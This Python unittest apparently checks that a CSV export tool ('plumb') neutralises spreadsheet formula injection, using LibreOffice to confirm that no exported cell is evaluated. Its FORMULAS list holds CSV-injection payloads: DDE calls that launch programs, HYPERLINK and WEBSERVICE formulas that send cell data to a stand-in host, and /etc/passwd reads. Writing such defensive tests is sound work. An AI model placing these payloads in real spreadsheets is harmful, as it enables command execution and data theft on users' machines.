"""Formulas in every text of every table leave for a spreadsheet as texts: LibreOffice, told to look for formulas, works none of them
out, and an import of what left has them as they were."""

import shutil
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as xml
from pathlib import Path

if shutil.which("soffice") is None:
    print("LibreOffice is not here; apt-get install libreoffice-calc puts it here.")
    sys.exit(77)

from practice import plumb, rows
from texts_of_tables import TextsOfTables

FORMULA = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
# As they are known from attacks by CSV: programs that are started, pages that are called, and other tables that are read.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "'=1+1", "''=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://localhost:9/?leak="&A1&A2;"Error: please click")', '=WEBSERVICE("http://localhost:9/"&A1)',
    "=IMPORTXML(CONCAT(\"http://localhost:9/\",A1),\"//a\")", "=DDE(\"soffice\";\"/etc/passwd\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1", "=1+1\";=2+2", ";=1+1", ",=1+1", "\"=1+1\"", "＝1+1", "－1+1", "＋1+1", "＠SUM(1)",
    "= 1+1", "=\u00a01+1", "=1+1'", "{=1+1}", "-2+3+cmd|' /C calc'!A0", "%0A=1+1", "|=1+1", "=A1:A9", "-", "+", "=", "@",
]


def formulas(folder, delimiter):
    """What LibreOffice works out in the tables of a folder, by their names."""
    # UTF-8, English, and formulas are looked for.
    options = f"{ord(delimiter)},34,76,1,,1033,false,true,false,false,false,-1,true"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless",
         f"--infilter=Text - txt - csv (StarCalc):{options}", "--convert-to", "fods", "--outdir", folder / "fods",
         *(folder / "csv").glob("*.csv")], check=True, capture_output=True, timeout=600)
    return {
        sheet.stem: [cell.get(FORMULA) for cell in xml.parse(sheet).getroot().iter() if cell.get(FORMULA)]
        for sheet in (folder / "fods").glob("*.fods")
    }


class Formulas(unittest.TestCase):
    def test_no_formula_is_worked_out(self):
        folder, expected = TextsOfTables().write(FORMULAS)
        database = folder.parent / "plumb.sqlite"
        run = plumb("import", folder, database=database)
        self.assertEqual(run.returncode, 0, run.stderr[:2000])
        # That LibreOffice looks for formulas at all, it shows on the other dialect.
        out = Path(tempfile.mkdtemp())
        self.assertEqual(plumb("export", "patients", "--to", out / "csv", database=database).returncode, 0)
        self.assertGreater(len(formulas(out, ",")["patients"]), 100)
        for delimiter in ",", ";":
            out = Path(tempfile.mkdtemp())
            run = plumb("export", "--to", out / "csv", "--dialect", "excel", "--delimiter", delimiter, database=database)
            self.assertEqual(run.returncode, 0, run.stderr)
            worked_out = formulas(out, delimiter)
            self.assertEqual(len(worked_out), len(list((out / "csv").glob("*.csv"))))
            self.assertEqual({table: found for table, found in worked_out.items() if found}, {})
            again = out / "plumb.sqlite"
            self.assertEqual(plumb("import", out / "csv", database=again).returncode, 0)
            self.assertEqual(plumb("export", "--to", out / "again", database=again).returncode, 0)
            found = {}
            for table in {table for table, _, _ in expected}:
                for row in rows(table, out / "again"):
                    found |= {(table, list(row.values())[0], name): text for name, text in row.items()}
            for place, text in expected.items():
                self.assertEqual(found[place], text.strip(), place)
        print(f"{len(expected)} formulas in {len(worked_out)} tables")


if __name__ == "__main__":
    unittest.main()
